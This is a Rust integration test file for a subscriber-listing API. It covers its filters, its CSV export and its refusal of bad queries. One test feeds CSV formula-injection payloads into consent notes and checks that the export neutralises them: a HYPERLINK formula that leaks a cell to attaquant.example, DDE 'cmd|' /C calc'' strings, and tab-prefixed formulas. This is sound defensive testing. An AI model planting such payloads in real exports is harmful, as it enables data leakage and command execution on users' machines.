//! Listing subscribers: the organiser's filters (who registered for a session, a series'
//! subscribers, the subscriptions to everything) on the JSON list and the CSV export, and the
//! refusal of queries that cannot be honoured.

use serde_json::{json, Value};

use crate::helpers::{error_fields, read, spawn_app, Db, TestApp};
use crate::on_both_backends;

on_both_backends!(
    filters_select_the_right_subscriptions,
    the_export_takes_the_same_filters,
    bad_subscriber_queries_are_400,
    exports_hold_no_formula,
);

/// Ids of what `seed` made.
struct Seeded {
    atelier_id: String,
    hiver_id: String,
}

/// Five addresses: one on everything, one on the series « Hiver », two registered for its
/// session « Atelier » (the later one withdrawn since), one for another session.
async fn seed(app: &TestApp) -> Seeded {
    let (code, series) = app.post("/api/v1/series", &json!({"title": "Hiver"})).await;
    assert_eq!(code, 201, "{series}");
    let atelier = app
        .create_event(
            json!({"kind": "webinar", "status": "scheduled", "title": "Atelier",
            "starts_at": "2037-12-09T09:00", "series": "hiver"}),
        )
        .await;
    app.create_event(
        json!({"kind": "webinar", "status": "scheduled", "title": "Autre",
        "starts_at": "2037-12-10T09:00"}),
    )
    .await;
    let subscribers = [
        ("tous@exemple.fr", json!("all"), "2026-01-01"),
        ("serie@exemple.fr", json!({"series": "hiver"}), "2026-01-02"),
        (
            "inscrit@exemple.fr",
            json!({"event": "atelier"}),
            "2026-01-03",
        ),
        (
            "parti@exemple.fr",
            json!({"event": "atelier"}),
            "2026-01-04",
        ),
        (
            "ailleurs@exemple.fr",
            json!({"event": "autre"}),
            "2026-01-05",
        ),
    ];
    for (email, scope, day) in subscribers {
        let (code, doc) = app
            .post(
                "/api/v1/subscribers",
                &json!({"email": email, "scope": scope,
                    "consent": {"source": "import", "at": format!("{day}T10:00:00Z")}}),
            )
            .await;
        assert_eq!(code, 201, "{doc}");
    }
    let (code, done) = app
        .post(
            "/api/v1/subscribers/unsubscribe",
            &json!({"email": "parti@exemple.fr"}),
        )
        .await;
    assert_eq!(code, 200, "{done}");
    Seeded {
        atelier_id: atelier["id"].as_str().unwrap().to_string(),
        hiver_id: series["id"].as_str().unwrap().to_string(),
    }
}

/// The addresses of a listing, in its order.
fn emails(list: &Value) -> Vec<String> {
    list.as_array()
        .unwrap()
        .iter()
        .map(|s| s["email"].as_str().unwrap().to_string())
        .collect()
}

async fn filters_select_the_right_subscriptions(db: Db) {
    let app = spawn_app(db).await;
    let ids = seed(&app).await;
    let by_id = format!("?event={}", ids.atelier_id);
    let series_by_id = format!("?series={}", ids.hiver_id);
    let cases: [(&str, &[&str]); 14] = [
        (
            "",
            &[
                "ailleurs@exemple.fr",
                "parti@exemple.fr",
                "inscrit@exemple.fr",
                "serie@exemple.fr",
                "tous@exemple.fr",
            ],
        ),
        (
            "?event=atelier",
            &["parti@exemple.fr", "inscrit@exemple.fr"],
        ),
        (&by_id, &["parti@exemple.fr", "inscrit@exemple.fr"]),
        ("?event=atelier&status=active", &["inscrit@exemple.fr"]),
        ("?event=atelier&status=unsubscribed", &["parti@exemple.fr"]),
        (
            "?event=atelier&scope=event",
            &["parti@exemple.fr", "inscrit@exemple.fr"],
        ),
        ("?event=atelier&limit=1", &["parti@exemple.fr"]),
        ("?event=autre", &["ailleurs@exemple.fr"]),
        ("?series=hiver", &["serie@exemple.fr"]),
        (&series_by_id, &["serie@exemple.fr"]),
        ("?scope=all", &["tous@exemple.fr"]),
        ("?scope=series&status=active", &["serie@exemple.fr"]),
        (
            "?scope=event",
            &[
                "ailleurs@exemple.fr",
                "parti@exemple.fr",
                "inscrit@exemple.fr",
            ],
        ),
        ("?status=unsubscribed", &["parti@exemple.fr"]),
    ];
    for (query, expected) in cases {
        let (status, list) = app.get(&format!("/api/v1/subscribers{query}")).await;
        assert_eq!(status, 200, "{query}: {list}");
        assert_eq!(emails(&list), expected, "{query}");
    }
    // A session nobody registered for: an empty list, not a refusal.
    app.create_event(
        json!({"kind": "webinar", "status": "scheduled", "title": "Vide",
        "starts_at": "2037-12-11T09:00"}),
    )
    .await;
    let (status, list) = app.get("/api/v1/subscribers?event=vide").await;
    assert_eq!(status, 200, "{list}");
    assert_eq!(list, json!([]));
}

/// The CSV export of a query, parsed: status and rows (header first).
async fn export(app: &TestApp, query: &str) -> (u16, Vec<Vec<String>>) {
    let response = app
        .client
        .get(app.url(&format!("/api/v1/subscribers/export.csv{query}")))
        .bearer_auth(&app.token)
        .send()
        .await
        .expect("request");
    let status = response.status().as_u16();
    if status != 200 {
        let (status, _) = read(response).await;
        return (status, Vec::new());
    }
    let text = response.text().await.expect("body");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    (status, rows)
}

async fn the_export_takes_the_same_filters(db: Db) {
    let app = spawn_app(db).await;
    seed(&app).await;
    let (status, rows) = export(&app, "?event=atelier").await;
    assert_eq!(status, 200);
    assert_eq!(rows[0][..4], ["email", "scope", "target", "status"]);
    let registered: Vec<[&str; 4]> = rows[1..]
        .iter()
        .map(|r| [r[0].as_str(), r[1].as_str(), r[2].as_str(), r[3].as_str()])
        .collect();
    assert_eq!(
        registered,
        [
            ["parti@exemple.fr", "event", "atelier", "unsubscribed"],
            ["inscrit@exemple.fr", "event", "atelier", "active"],
        ]
    );
    let (status, rows) = export(&app, "?scope=all&status=active").await;
    assert_eq!(status, 200);
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(rows[1][0], "tous@exemple.fr");
    let (status, rows) = export(&app, "").await;
    assert_eq!(status, 200);
    assert_eq!(rows.len(), 6, "everything, without a limit: {rows:?}");
    for query in ["?event=inconnue", "?evenement=atelier", "?scope=tout"] {
        let (status, _) = export(&app, query).await;
        assert_eq!(status, 400, "{query}");
    }
}

/// How a spreadsheet (Excel, LibreOffice Calc, Google Sheets) reads a CSV cell: one that
/// starts with `=`, `+`, `-` or `@` is a formula, and so is one that starts with a tab or a
/// carriage return followed by one (they skip that leading blank); a leading apostrophe makes
/// the cell text, and is not shown.
fn spreadsheet_reads(cell: &str) -> Result<&str, &str> {
    if let Some(text) = cell.strip_prefix('\'') {
        return Ok(text);
    }
    let start = cell.trim_start_matches(['\t', '\r']);
    if cell.starts_with(['\t', '\r']) || start.starts_with(['=', '+', '-', '@']) {
        Err(cell)
    } else {
        Ok(cell)
    }
}

/// Issue 20, item 6: addresses and consent notes that start like formulas come out of the
/// subscribers' CSV as text a spreadsheet shows as typed, and runs nothing.
async fn exports_hold_no_formula(db: Db) {
    let app = spawn_app(db).await;
    let typed = [
        (
            "=1+2@example.org",
            "=HYPERLINK(\"http://attaquant.example/?\"&A1,\"clic\")",
        ),
        ("+33612345678@example.org", "+cmd|' /C calc'!A0"),
        ("-2+3@example.org", "-1+1"),
        ("a@example.org", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("b@example.org", "\t=1+1"),
        ("c@example.org", "\r=1+1"),
        ("d@example.org", "salon 2026, « stand 4 » ; fiche n° 12"),
    ];
    for (email, source) in typed {
        let (status, body) = app
            .post(
                "/api/v1/subscribers",
                &json!({"email": email, "scope": "all", "consent": {"source": source, "at": "2026-01-04T09:00:00Z"}}),
            )
            .await;
        assert_eq!(status, 201, "{email}: {body}");
    }
    let (status, rows) = export(&app, "").await;
    assert_eq!(status, 200);
    let header = &rows[0];
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let (email, source) = (column("email"), column("source"));
    assert_eq!(rows.len(), typed.len() + 1, "{rows:?}");
    for row in &rows[1..] {
        for cell in row {
            assert!(
                spreadsheet_reads(cell).is_ok(),
                "a formula cell: {cell:?} in {row:?}"
            );
        }
        // What the spreadsheet shows is what was typed (the API trims a consent note).
        let shown = (
            spreadsheet_reads(&row[email]).unwrap(),
            spreadsheet_reads(&row[source]).unwrap(),
        );
        assert!(
            typed.iter().any(|&(e, s)| (e, s.trim()) == shown),
            "{shown:?} was not typed"
        );
    }
}

async fn bad_subscriber_queries_are_400(db: Db) {
    let app = spawn_app(db).await;
    seed(&app).await;
    let cases = [
        ("?event=inconnue", "event"),
        ("?series=inconnue", "series"),
        ("?scope=tout", "scope"),
        ("?scope=all&event=atelier", "scope"),
        ("?scope=event&series=hiver", "scope"),
        ("?event=atelier&series=hiver", "series"),
        ("?status=parti", "status"),
        ("?limit=0", "limit"),
        ("?limit=10001", "limit"),
    ];
    for (query, field) in cases {
        let (status, problem) = app.get(&format!("/api/v1/subscribers{query}")).await;
        assert_eq!(status, 400, "{query}: {problem}");
        assert_eq!(error_fields(&problem), [field], "{query}: {problem}");
    }
    let (_, problem) = app.get("/api/v1/subscribers?event=inconnue").await;
    assert!(
        problem["detail"].as_str().unwrap().contains("inconnue"),
        "{problem}"
    );
    // A parameter this endpoint does not know is refused, not ignored.
    for query in ["?evenement=atelier", "?session=atelier"] {
        let (status, problem) = app.get(&format!("/api/v1/subscribers{query}")).await;
        assert_eq!(status, 400, "{query}: {problem}");
        let name = &query[1..query.find('=').unwrap()];
        assert!(
            problem["detail"].as_str().unwrap().contains(name),
            "{query}: {problem}"
        );
    }
}

/// The OpenAPI document names the filters of the list and of the export.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_openapi_document_names_the_filters() {
    let app = spawn_app(Db::Sqlite).await;
    let (status, doc) = app.get("/api/v1/openapi.json").await;
    assert_eq!(status, 200);
    for path in ["/api/v1/subscribers", "/api/v1/subscribers/export.csv"] {
        let operation = &doc["paths"][path]["get"];
        let mut names: Vec<&str> = operation["parameters"]
            .as_array()
            .unwrap_or_else(|| panic!("{path}: {operation:#}"))
            .iter()
            .map(|p| p["name"].as_str().unwrap())
            .collect();
        names.sort();
        assert_eq!(
            names,
            ["address", "event", "limit", "scope", "series", "status"],
            "{path}"
        );
        assert!(operation["responses"]["400"].is_object(), "{path}");
    }
}
